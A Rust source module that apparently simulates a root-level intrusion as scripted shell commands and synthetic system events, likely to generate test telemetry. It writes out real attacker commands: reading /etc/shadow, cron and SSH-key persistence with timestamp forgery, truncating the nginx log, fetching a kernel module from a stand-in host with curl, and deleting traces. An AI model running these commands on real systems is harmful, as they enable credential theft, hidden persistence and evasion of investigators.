//! What root does: hashes, ways back in, traces.

use super::{
    super::stage::{APPEND, CREATE, End, Stage, TRUNCATE},
    entry::who_am_i,
    foothold::{DROPPED, Remote, fetch},
};

const HASHES: &str =
    "root:$y$j9T$example$example:20000:0:99999:7:::\nwww-data:*:20000:0:99999:7:::\n";
const JOB: &str = "/etc/cron.d/.upd";
const KEYS: &str = "/root/.ssh/authorized_keys";
const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExa backup\n";
const LOG: &str = "/var/log/nginx/access.log";
const MODULE: &str = "/tmp/.k.ko";
const MODULE_BYTES: usize = 11_608;

pub(crate) fn read_hashes(stage: &mut Stage, remote: &mut Remote) {
    remote.told(stage, "id");
    who_am_i(stage, &remote.shell);
    remote.answered(stage, "uid=0(root) gid=0(root) groups=0(root)\n");
    remote.told(stage, "cat /etc/shadow");
    stage.run(&remote.shell, "cat /etc/shadow", |stage, cat| {
        stage.read_file(cat, "/etc/shadow", HASHES);
        stage.say(cat, HASHES);
    });
    remote.answered(stage, HASHES);
}

/// A job that starts the program again, every minute.
pub(crate) fn plant_job(stage: &mut Stage, remote: &mut Remote) {
    let job = format!("* * * * * root {DROPPED}\n");
    remote.told(stage, &format!("echo \"{}\" > {JOB}", job.trim_end()));
    stage.echo_to(&mut remote.shell, JOB, CREATE, &job);
}

/// A key for the way back, with the time of a file that has been there for long.
pub(crate) fn plant_key(stage: &mut Stage, remote: &mut Remote) {
    remote.told(stage, &format!("echo {} >> {KEYS}", KEY.trim_end()));
    stage.echo_to(&mut remote.shell, KEYS, APPEND, KEY);
    let line = format!("touch -r /etc/passwd {KEYS}");
    remote.told(stage, &line);
    stage.run(&remote.shell, &line, |stage, touch| {
        stage.look_at(touch, "/etc/passwd");
        let fd = stage.open(touch, KEYS, &["O_WRONLY", "O_NONBLOCK"]);
        stage.call(touch, "utimensat");
        stage.close(touch, fd);
    });
}

pub(crate) fn empty_log(stage: &mut Stage, remote: &mut Remote) {
    remote.told(stage, &format!(": > {LOG}"));
    stage.echo_to(&mut remote.shell, LOG, TRUNCATE, "");
}

/// Two ways onto the host, which the kernel refuses.
pub(crate) fn try_to_break_out(stage: &mut Stage, remote: &mut Remote) {
    let (line, complaint) = ("mount /dev/vda1 /mnt", "mount: /mnt: permission denied.\n");
    remote.told(stage, line);
    stage.run_to(&remote.shell, line, End::Code(32), |stage, mount| {
        stage.mount_fails(mount, "/dev/vda1", "/mnt", "ext4");
        stage.complain(mount, complaint);
    });
    remote.answered(stage, complaint);
    load_module(stage, remote);
}

fn load_module(stage: &mut Stage, remote: &Remote) {
    remote.told(stage, &format!("curl -s http://cdn.example.net:8080/k -o {MODULE}"));
    fetch(stage, &remote.shell, "k", MODULE, MODULE_BYTES);
    let line = format!("insmod {MODULE}");
    let complaint = "insmod: ERROR: could not insert module: Operation not permitted\n";
    remote.told(stage, &line);
    stage.run_to(&remote.shell, &line, End::Code(1), |stage, insmod| {
        let fd = stage.open_kept(insmod, MODULE);
        stage.load_module_fails(insmod, fd);
        stage.complain(insmod, complaint);
        stage.close(insmod, fd);
    });
    remote.answered(stage, complaint);
}

pub(crate) fn remove_traces(stage: &mut Stage, remote: &mut Remote) {
    let paths = [DROPPED, "/tmp/.e", MODULE, "/tmp/.g/gconv-modules"];
    let line = format!("rm -f {}", paths.join(" "));
    remote.told(stage, &line);
    stage.run(&remote.shell, &line, |stage, rm| {
        paths.iter().for_each(|path| stage.remove(rm, path));
    });
}
